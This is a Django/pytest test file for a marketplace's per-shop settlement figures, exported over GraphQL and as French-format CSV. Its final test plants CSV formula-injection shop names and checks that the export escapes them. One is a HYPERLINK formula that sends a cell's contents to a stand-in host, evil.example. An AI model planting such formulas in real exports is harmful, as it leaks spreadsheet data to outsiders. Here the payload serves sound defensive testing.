"""Sales, commission and net due per shop, per order and per period, in GraphQL and CSV."""
import csv
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from graphql_relay import to_global_id

from .conftest import OPERATOR, money, place_order, shopkeeper_email

pytestmark = pytest.mark.django_db

SETTLEMENTS = """
query($period: DateRangeInput!, $merchant: ID) { merchantSettlements(period: $period, merchant: $merchant) {
  merchant { slug } sales { amount } discount { amount } commissionBase { amount }
  commission { amount } netDue { amount } orderCount } }
"""
PER_ORDER = """
{ merchantOrders(first: 50) { edges { node { number merchant { slug }
  settlement { sales { amount } discount { amount } commission { amount } netDue { amount } } } } } }
"""


def row(item):
    return (item["merchant"]["slug"] if item["merchant"] else None, money(item["sales"]["amount"]),
            money(item["discount"]["amount"]), money(item["commission"]["amount"]),
            money(item["netDue"]["amount"]))


@pytest.fixture
def two_orders(shops):
    (a, va), (b, vb), (c, vc) = shops
    # 10 € products. Order 1: 1 from A, 2 from B, 3 from C, 1,00 € voucher on the goods.
    first = place_order([(va, 1), (vb, 2), (vc, 3)], discount=Decimal("1.00"))
    second = place_order([(va, 2)])
    return shops, first, second


def test_operator_period_totals_add_up_to_the_orders_lines(api, two_orders):
    shops, first, second = two_orders
    today = timezone.localdate().isoformat()
    rows = api.login(OPERATOR).data(SETTLEMENTS, {"period": {"gte": today, "lte": today}})
    rows = [row(r) for r in rows["merchantSettlements"]]
    # Discount 1,00 split 10/20/30 -> 0,17/0,33/0,50; commission on TTC after discount.
    assert rows == [
        ("boutique-1", money("30.00"), money("0.17"), money("2.98"), money("26.85")),
        ("boutique-2", money("20.00"), money("0.33"), money("2.46"), money("17.21")),
        ("boutique-3", money("30.00"), money("0.50"), money("2.36"), money("27.14")),
    ]
    lines_total = sum(l.unit_price_gross_amount * l.quantity for o in (first, second) for l in o.lines.all())
    assert sum(r[1] for r in rows) == lines_total
    assert sum(r[3] + r[4] for r in rows) == lines_total - first.discount_amount


def test_a_shopkeeper_sees_only_their_own_money(api, two_orders):
    shops, first, _ = two_orders
    keeper = api.login(shopkeeper_email(shops[1][0]))
    today = timezone.localdate().isoformat()
    rows = keeper.data(SETTLEMENTS, {"period": {"gte": today, "lte": today},
                                     "merchant": to_global_id("Merchant", shops[0][0].pk)})
    assert rows["merchantSettlements"] == []  # another shop's figures: nothing
    rows = keeper.data(SETTLEMENTS, {"period": {"gte": today, "lte": today}})["merchantSettlements"]
    assert [row(r) for r in rows] == [("boutique-2", money("20.00"), money("0.33"), money("2.46"), money("17.21"))]
    per_order = keeper.data(PER_ORDER)["merchantOrders"]["edges"]
    assert [(e["node"]["number"], money(e["node"]["settlement"]["netDue"]["amount"])) for e in per_order] == [
        (str(first.pk), money("17.21"))
    ]


def test_other_periods_and_cancelled_orders_count_nothing(api, two_orders):
    from saleor.order.actions import cancel_order

    shops, first, second = two_orders
    operator = api.login(OPERATOR)
    yesterday = (timezone.localdate() - timezone.timedelta(days=1)).isoformat()
    assert operator.data(SETTLEMENTS, {"period": {"lte": yesterday}})["merchantSettlements"] == []
    cancel_order(second, user=None)
    rows = operator.data(SETTLEMENTS, {"period": {}})["merchantSettlements"]
    assert [(r["merchant"]["slug"], r["orderCount"]) for r in rows] == [
        ("boutique-1", 1), ("boutique-2", 1), ("boutique-3", 1),
    ]


def test_customers_are_denied_the_figures(api, two_orders):
    body = api.execute(SETTLEMENTS, {"period": {}})
    assert body["errors"] and body["data"] is None


def test_per_order_figures_cost_constant_queries(api, two_orders):
    shops = two_orders[0]
    operator = api.login(OPERATOR)
    operator.data(PER_ORDER)

    def count():
        with CaptureQueriesContext(connection) as queries:
            operator.data(PER_ORDER)
        return len(queries)

    before = count()
    for _ in range(3):
        place_order([(variant, 1) for _, variant in shops])
    assert count() == before


def test_csv_export_in_french_spreadsheet_format(api, client, two_orders):
    shops, first, second = two_orders
    keeper = api.login(shopkeeper_email(shops[0][0]))
    response = client.get("/exports/merchant-settlements.csv", HTTP_AUTHORIZATION=f"JWT {keeper.token}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[0][:5] == ["Date de paiement", "Commande", "Boutique", "SIRET", "Ventes TTC"]
    today = timezone.localdate().strftime("%d/%m/%Y")
    assert rows[1:] == [
        [today, str(first.pk), "Boutique 1", "73282932000074", "10,00", "0,17", "9,83", "10 %", "0,98", "8,85"],
        [today, str(second.pk), "Boutique 1", "73282932000074", "20,00", "0,00", "20,00", "10 %", "2,00", "18,00"],
    ]


@pytest.mark.parametrize("auth, query, status", [
    (None, "", 403),
    ("JWT not-a-token", "", 401),
    ("operator", "?from=01/03/2024", 400),
])
def test_csv_export_refusals_are_french(api, client, two_orders, auth, query, status):
    if auth == "operator":
        auth = f"JWT {api.login(OPERATOR).token}"
    headers = {"HTTP_AUTHORIZATION": auth} if auth else {}
    response = client.get("/exports/merchant-settlements.csv" + query, **headers)
    assert response.status_code == status
    assert "csv" not in response["Content-Type"]
    assert any(word in response.content.decode() for word in ("accès", "reconnectez", "AAAA-MM-JJ"))


def test_csv_export_never_turns_a_shop_name_into_a_formula(api, client, two_orders):
    shops, first, second = two_orders
    (a, _), (b, _), (c, _) = shops
    a.name, b.name, c.name = '=HYPERLINK("http://evil.example/?d="&E2,"Payer")', "\t-1+1", "@SUM(1,2)"
    for shop in (a, b, c):
        shop.save(update_fields=["name"])
    operator = api.login(OPERATOR)
    response = client.get("/exports/merchant-settlements.csv", HTTP_AUTHORIZATION=f"JWT {operator.token}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:]), delimiter=";"))
    assert sorted(row[2] for row in rows[1:]) == sorted([
        '\'=HYPERLINK("http://evil.example/?d="&E2,"Payer")',
        '\'=HYPERLINK("http://evil.example/?d="&E2,"Payer")',
        "'\t-1+1",
        "'@SUM(1,2)",
    ])
    # Amounts stay bare numbers a spreadsheet can add up.
    first_a = next(row for row in rows[1:] if row[1] == str(first.pk) and "HYPERLINK" in row[2])
    assert first_a[4:] == ["10,00", "0,17", "9,83", "10 %", "0,98", "8,85"]
